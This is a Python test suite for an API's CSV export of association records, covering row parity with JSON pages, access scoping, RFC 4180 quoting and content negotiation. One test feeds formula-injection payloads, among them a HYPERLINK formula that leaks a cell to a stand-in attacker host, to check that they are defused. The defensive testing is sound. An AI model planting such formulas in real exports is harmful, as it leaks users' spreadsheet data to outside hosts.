"""Association records in a spreadsheet (issue 28): `Accept: text/csv` on GET
/v1/association-records answers every record the JSON pages hold for the same filters and caller,
in their order, as one RFC 4180 download with its formulas defused; the console's Export link
downloads its tab's records the same way."""

from __future__ import annotations

import csv
import html
import io
import json
import re
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from api.routers.records import OFFERS, negotiate
from application import sessions
from application.records import EXPORT_BATCH
from application.services import Services
from store import records as store_records
from store.accounts import PostgresStanding
from tests.api.test_console_edges import OPERATOR, PASSWORD, console, form_token
from tests.api.test_disassociations import assert_problem
from tests.api.test_records import seed_records, walk
from tests.factories import bearer
from workflows.gateway import Gateway

pytestmark = pytest.mark.devserver

CSV = {"Accept": "text/csv"}
FILTERS = [
    "",
    "kind=type_change",
    "kind=disassociation&status=rejected&from=2025-03-01T00:00:00Z&to=2025-06-01T00:00:00Z",
]


async def export(api, token: str, query: str = "", accept: str = "text/csv"):
    return await api.get(
        f"/v1/association-records?{query}", headers={**bearer(token), "Accept": accept}
    )


def rows_of(response) -> list[dict[str, str]]:
    """The CSV body's records, by the header row's names."""
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8"), newline="")))


def as_cells(item: dict[str, Any]) -> dict[str, str]:
    """A JSON record as its CSV row must read: null empty, an object as compact JSON."""
    return {key: as_cell(value) for key, value in item.items()}


def as_cell(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, dict):
        return json.dumps(value, sort_keys=True, separators=(",", ":"))
    return str(value)


async def add_record(pool, world, reason: str) -> None:
    async with pool.connection() as conn:
        await conn.execute(
            "INSERT INTO association_records (effect_key, kind, action, association_id,"
            " partner_id, customer_id, status, actor, reason, occurred_at)"
            " VALUES (gen_random_uuid()::text, 'disassociation', 'rejected', %s, %s, %s,"
            " 'rejected', 'operator:tests', %s, now())",
            (world.association_id, world.partner_id, world.customer_id, reason),
        )


@pytest.fixture
async def seeded(factory, pool):
    world = await factory.world()
    await seed_records(factory, pool, world)
    return world


# --- the same rows as the JSON pages ----------------------------------------------------------


@pytest.mark.parametrize("query", FILTERS)
async def test_the_csv_holds_the_json_pages_rows_in_their_order(api, seeded, query):
    """Thousands of rows (several of the export's batches): the CSV is every JSON page's records,
    field for field, newest first."""
    pages = await walk(api, seeded.partner_reader, query.replace("+", "%2B"))
    response = await export(api, seeded.partner_reader, query)
    assert response.status_code == 200, response.text
    assert rows_of(response) == [as_cells(item) for item in pages] and pages


async def test_the_export_holds_one_batch_at_a_time(api, seeded, monkeypatch):
    """Never all rows at once: the records are read in keyset batches of EXPORT_BATCH."""
    limits = []
    read = store_records.list_records

    async def counted(conn, scope, **filters):
        limits.append(filters["limit"])
        return await read(conn, scope, **filters)

    monkeypatch.setattr(store_records, "list_records", counted)
    rows = rows_of(await export(api, seeded.partner_reader))
    assert set(limits) == {EXPORT_BATCH} and len(rows) > 3 * EXPORT_BATCH
    assert len(limits) == -(-len(rows) // EXPORT_BATCH)  # the last batch says it is the last


async def test_the_header_row_names_the_json_fields(api, seeded):
    [item] = (await api.get("/v1/association-records?limit=1", headers=bearer(seeded.customer))).json()["items"]  # fmt: skip
    response = await export(api, seeded.customer)
    header = response.content.split(b"\r\n", 1)[0].decode()
    assert header.split(",") == list(item) == [
        "id", "kind", "action", "association_id", "partner_id", "customer_id", "request_id",
        "status", "actor", "reason", "before", "after", "occurred_at",
    ]  # fmt: skip


async def test_no_matching_record_is_the_header_row_alone(api, factory):
    world = await factory.world()
    response = await export(api, world.partner_reader, "kind=partner_change")
    assert response.status_code == 200
    assert response.content.count(b"\r\n") == 1 and response.content.startswith(b"id,kind,")


async def test_a_cursor_starts_the_csv_after_its_json_page(api, seeded):
    first = (
        await api.get("/v1/association-records?limit=100", headers=bearer(seeded.partner_reader))
    ).json()
    rest = await export(api, seeded.partner_reader, f"cursor={first['next_cursor']}")
    everything = await walk(api, seeded.partner_reader, "")
    assert rows_of(rest) == [as_cells(item) for item in everything[100:]]


# --- the caller's scope -------------------------------------------------------------------------


async def test_another_accounts_records_never_appear(api, factory, pool, seeded):
    other = await factory.world()
    await add_record(pool, other, "the other partner's")
    theirs = rows_of(await export(api, other.partner_admin))
    assert {r["partner_id"] for r in theirs} == {str(other.partner_id)}
    assert {r["association_id"] for r in theirs} == {str(other.association_id)}
    mine = rows_of(await export(api, seeded.customer))
    assert {r["customer_id"] for r in mine} == {str(seeded.customer_id)}
    assert len(mine) == len(await walk(api, seeded.customer, ""))
    # Another partner naming this partner's customer gets none of its records.
    assert (
        rows_of(await export(api, other.partner_admin, f"customer_id={seeded.customer_id}")) == []
    )


async def test_a_distributor_exports_its_resellers_records_merged(api, factory, pool, seeded):
    sibling = await factory.partner("reseller", parent=seeded.distributor_id)
    sibling_customer, _ = await factory.customer()
    association = await factory.association(sibling, sibling_customer)
    await add_record(
        pool,
        type("W", (), {"partner_id": sibling, "customer_id": sibling_customer,
                       "association_id": association})(),
        "the sibling's",
    )  # fmt: skip
    pages = await walk(api, seeded.distributor_admin, "")
    rows = rows_of(await export(api, seeded.distributor_admin))
    assert rows == [as_cells(item) for item in pages]
    assert {r["partner_id"] for r in rows} == {str(seeded.partner_id), str(sibling)}


async def test_the_csv_is_refused_as_the_json_is(api, factory):
    world = await factory.world()
    _, token = await factory.user(world.partner_id, [])
    assert_problem(await export(api, token), 403, "forbidden")
    response = await api.get("/v1/association-records", headers=CSV)
    assert_problem(response, 401, "unauthorized")
    assert_problem(
        await export(api, world.partner_admin, "cursor=nonsense"), 422, "validation_error"
    )
    assert_problem(await export(api, world.partner_admin, "kind=nonsense"), 422, "validation_error")


# --- the file itself ----------------------------------------------------------------------------


async def test_a_download_for_a_spreadsheet(api, factory):
    world = await factory.world()
    before = datetime.now(UTC).date()
    response = await export(api, world.partner_admin)
    days = {before, datetime.now(UTC).date()}  # the UTC date the download was answered on
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] in {
        f'attachment; filename="association-records-{day.isoformat()}.csv"' for day in days
    }
    assert response.headers["vary"] == "Accept"


@pytest.mark.parametrize(
    "reason",
    [
        '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
        "+1+2",
        "-2+3",
        "@SUM(A1:A2)",
        "\tindented",
        "\rcarriage",
    ],
)
async def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_defused(api, factory, pool, reason):
    world = await factory.world()
    await add_record(pool, world, reason)
    [record] = (
        await api.get("/v1/association-records?kind=disassociation", headers=bearer(world.customer))
    ).json()["items"]
    assert record["reason"] == reason  # the JSON says what was written
    [row] = rows_of(await export(api, world.customer, "kind=disassociation"))
    assert row["reason"] == "'" + reason


async def test_commas_quotes_and_line_breaks_are_quoted_per_rfc_4180(api, factory, pool):
    world = await factory.world()
    reason = 'Moved, says "the customer"\r\nsecond line\nthird, with ü'
    await add_record(pool, world, reason)
    body = (await export(api, world.customer, "kind=disassociation")).content
    quoted = '"Moved, says ""the customer""\r\nsecond line\nthird, with ü"'.encode()
    assert quoted in body
    assert body.endswith(b"\r\n") and body.count(b"\r\n") == 3  # header, record, one inside
    [row] = rows_of(await export(api, world.customer, "kind=disassociation"))
    assert row["reason"] == reason


async def test_an_object_is_one_cell_of_compact_json(api, factory, pool):
    world = await factory.world()
    async with pool.connection() as conn:
        await conn.execute(
            "INSERT INTO association_records (effect_key, kind, action, association_id,"
            " partner_id, customer_id, status, actor, before, after, occurred_at)"
            " VALUES (gen_random_uuid()::text, 'type_change', 'type_changed', %s, %s, %s,"
            " 'active', 'operator:tests', %s, %s, now())",
            (world.association_id, world.partner_id, world.customer_id,
             '{"association_type": "resale"}', '{"association_type": "referral", "a": [1, "x"]}'),
        )  # fmt: skip
    [row] = rows_of(await export(api, world.customer, "kind=type_change"))
    assert row["before"] == '{"association_type":"resale"}'
    assert row["after"] == '{"a":[1,"x"],"association_type":"referral"}'
    assert row["request_id"] == "" and row["reason"] == ""


# --- content negotiation ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("accept", "answer"),
    [
        ("", "application/json"),
        ("*/*", "application/json"),
        ("application/json", "application/json"),
        ("application/*", "application/json"),
        ("text/csv", "text/csv"),
        ("text/*", "text/csv"),
        ("TEXT/CSV; charset=utf-8; header=present", "text/csv"),
        ("text/csv, application/json", "application/json"),  # a tie: the default
        ("application/json;q=0.5, text/csv", "text/csv"),
        ("text/csv;q=0.9, application/json;q=0.8", "text/csv"),
        ("text/html, */*;q=0.1", "application/json"),
        ("text/csv;q=0, */*", "application/json"),
        ("text/html", None),
        ("application/xml, image/*", None),
        ("text/csv;q=0", None),
        ("application/json;q=nonsense", None),
    ],
)
def test_negotiation(accept, answer):
    assert negotiate(accept, OFFERS) == answer


async def test_json_stays_the_default_and_an_unacceptable_type_is_406(api, factory):
    world = await factory.world()
    plain = await api.get("/v1/association-records", headers=bearer(world.customer))
    assert plain.headers["content-type"] == "application/json" and "items" in plain.json()
    assert plain.headers["vary"] == "Accept"
    browser = await export(api, world.customer, accept="text/html,application/xhtml+xml,*/*;q=0.8")
    assert browser.headers["content-type"] == "application/json"
    for accept in ("text/html", "application/xml", "text/csv;q=0"):
        problem = assert_problem(
            await export(api, world.customer, accept=accept), 406, "not_acceptable"
        )
        assert "text/csv" in problem["detail"]


# --- the console's Export link ------------------------------------------------------------------


@pytest.fixture
def svc(settings, pool, dev_env) -> Services:
    return Services(
        pool, Gateway(dev_env.client, settings.task_queue), settings, PostgresStanding(pool)
    )


async def signed_in_email(svc: Services, factory, person_id) -> str:
    """The person's email, with a password set through their invitation."""
    link = await sessions.invite(svc, OPERATOR, person_id)
    await sessions.accept_invitation(svc, link.url.rsplit("/", 1)[1], PASSWORD, client="setup")
    [row] = await factory.fetch("SELECT email FROM people WHERE id = %s", person_id)
    return row["email"]


def export_link(page) -> str:
    assert page.status_code == 200, page.text[:300]
    [link] = re.findall(r'<a class="button" href="([^"]+)" download>Export', page.text)
    return html.unescape(link)


async def test_the_export_link_downloads_the_tabs_csv(api, settings, dev_env, factory, svc, seeded):
    """The Export link on a filtered tab downloads what the API answers as CSV for the same
    filters (a day's `to` takes the whole day in): all of the tab's records, from any page."""
    email = await signed_in_email(svc, factory, seeded.partner_admin_id)
    tab = "/console/records?tab=type_changes&status=active&from=2025-03-01&to=2025-05-31"
    async with console(settings, dev_env.client) as c:
        stranger = await c.get("/console/records/export?tab=associations")
        assert stranger.status_code == 303 and "/console/sign-in" in stranger.headers["location"]
        signed_in = await c.post(
            "/console/sign-in",
            data={"csrftoken": await form_token(c, "/console/sign-in"), "email": email,
                  "password": PASSWORD, "next": "/console/"},
        )  # fmt: skip
        assert signed_in.status_code == 303, signed_in.text[:300]
        first = await c.get(tab)
        link = export_link(first)
        [next_page] = re.findall(r'<a href="([^"]+)" rel="next">', first.text)
        assert export_link(await c.get(html.unescape(next_page))) == link
        download = await c.get(link)
        wrong = await c.get("/console/records/export?tab=associations&from=yesterday")
        assert wrong.status_code == 422 and "YYYY-MM-DD" in wrong.text  # the tab, with its words
    assert download.status_code == 200
    assert download.headers["content-type"] == "text/csv; charset=utf-8"
    assert download.headers["content-disposition"].startswith("attachment; filename=")
    assert download.headers["cache-control"] == "no-store"
    since, until = datetime(2025, 3, 1, tzinfo=UTC), datetime(2025, 6, 1, tzinfo=UTC)
    query = f"kind=type_change&status=active&from={since.isoformat()}&to={until.isoformat()}"
    same = await export(api, seeded.partner_admin, query.replace("+", "%2B"))
    assert download.content == same.content
    rows = rows_of(download)
    assert len(rows) > 1 and {r["kind"] for r in rows} == {"type_change"}
    moments = [datetime.fromisoformat(r["occurred_at"]) for r in rows]
    assert all(since <= moment < until for moment in moments)
    assert min(moments) < since + timedelta(days=7) and max(moments) > until - timedelta(days=7)
